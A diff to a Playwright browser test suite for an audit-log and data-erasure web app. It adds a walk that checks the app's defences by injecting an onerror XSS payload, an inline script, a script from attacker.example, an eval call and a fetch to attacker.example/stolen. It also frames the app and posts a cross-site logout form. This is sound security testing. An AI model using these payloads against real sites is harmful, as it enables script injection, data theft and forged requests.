@@ -123,6 +123,8 @@ const walks = {
     await images.locator("canvas:not(.hidden)").first().waitFor();
     await page.waitForFunction(() => document.querySelectorAll(".pictures figure").length === document.querySelectorAll(".pictures canvas:not(.hidden)").length);
     answer.images = await images.locator("canvas").count();
+    // The entries about the views are there without another look at the page.
+    await part("Who looked").getByText("Image seen").nth(answer.images - 1).waitFor();
     answer.takenOut = await images.locator("canvas").first().evaluate((canvas) => [canvas.draggable, canvas.dispatchEvent(new MouseEvent("contextmenu", { cancelable: true, bubbles: true }))]);
     answer.imageElements = await page.locator("main img").count();
 
@@ -166,7 +168,13 @@ const walks = {
     await button("Find").click();
     await page.getByText("That does not mean that nobody looked").waitFor();
 
+    asked.length = 0;
     await go("Holds and approvals");
+    await page.locator(".row-link").first().waitFor();
+    await page.getByText("Nothing waits.").waitFor();
+    // The link to the page that is shown loads it again.
+    await Promise.all([page.waitForResponse((response) => response.url().endsWith("/ListAuditEvents")), go("Holds and approvals")]);
+    answer.logReads = asked.filter((name) => name === "ListAuditEvents").length;
     await page.locator(".row-link").first().waitFor();
     answer.held = await page.locator(".row-link").count();
     await lookAt("holds");
@@ -250,12 +258,9 @@ const walks = {
     await go("Holds and approvals");
     await page.getByText("Nothing waits.").waitFor();
     // The erasure of a person that anna requested.
-    let reads = 0;
     await page.route("**/api/ListAuditEvents", (route) => {
       const request = { sequence: "1", action: "approval.requested", time: new Date().toISOString(), purpose: "letter", pseudonym: "p", actor: { name: "anna" }, detail: { of: "subject.erased", requested_by: "anna", reason: "consent_withdrawn" } };
-      // The requests are read first, then what ended them.
-      reads += 1;
-      return route.fulfill({ json: reads % 4 === 1 ? { events: [request] } : {} });
+      return route.fulfill({ json: { events: [request] } });
     });
     await go("Erase and export a subject");
     await field("Subject reference").fill("emil-5");
@@ -424,6 +429,55 @@ const walks = {
     answer.refused = await page.getByText("Your role does not allow").count();
     await page.goto(new URL("#/check/1", job.address).href);
     await heading("There is no such page");
+  },
+
+  /** What somebody tries who got markup or a script into the page, or whose own page the person visits meanwhile. */
+  async attacks() {
+    await page.locator(".row-link").first().waitFor();
+    Object.assign(answer, await page.evaluate(async () => {
+      const [ran, refused] = [[], []];
+      window.attacked = (name) => ran.push(name);
+      const tried = async (name, act) => {
+        try {
+          await act(document.body.appendChild(document.createElement(name === "markup" ? "div" : "script")));
+        } catch {
+          refused.push(name);
+        }
+      };
+      await tried("markup", (box) => (box.innerHTML = `<img src="x:" onerror="attacked('markup')">`));
+      await tried("script", (script) => (script.text = "attacked('script')"));
+      await tried("foreign", (script) => (script.src = "http://attacker.example/script.js"));
+      // Later, because the browser allows it to what Playwright itself runs.
+      await tried("eval", () => new Promise((resolve, reject) => setTimeout(() => {
+        try {
+          resolve((0, eval)("attacked('eval')"));
+        } catch (error) {
+          reject(error);
+        }
+      })));
+      await tried("sent", () => fetch("http://attacker.example/stolen").then(() => ran.push("sent")));
+      await new Promise((resolve) => setTimeout(resolve, 500));
+      return { ran, refused };
+    }));
+    const other = await context.newPage();
+    await other.route("http://attacker.example/**", (route) => route.fulfill({ contentType: "text/html", body: "<iframe name=f></iframe>" }));
+    await other.goto("http://attacker.example/");
+    const framed = (act) => other.evaluate(([what, address]) => new Promise((resolve) => {
+      const frame = document.querySelector("iframe");
+      frame.onload = resolve;
+      if (what === "page") return (frame.src = address);
+      const form = document.body.appendChild(document.createElement("form"));
+      Object.assign(form, { action: `${address}api/logout`, method: "POST", enctype: "text/plain", target: "f" });
+      form.submit();
+    }), [act, job.address]);
+    await framed("page");
+    answer.framed = await other.frames()[1].locator(".brand").count();
+    await framed("form");
+    await other.close();
+    await page.reload();
+    await page.locator(".row-link").first().waitFor();
+    // The browser reports what it refused.
+    problems.length = 0;
   },
 
   /** Opens a one-time link twice. */
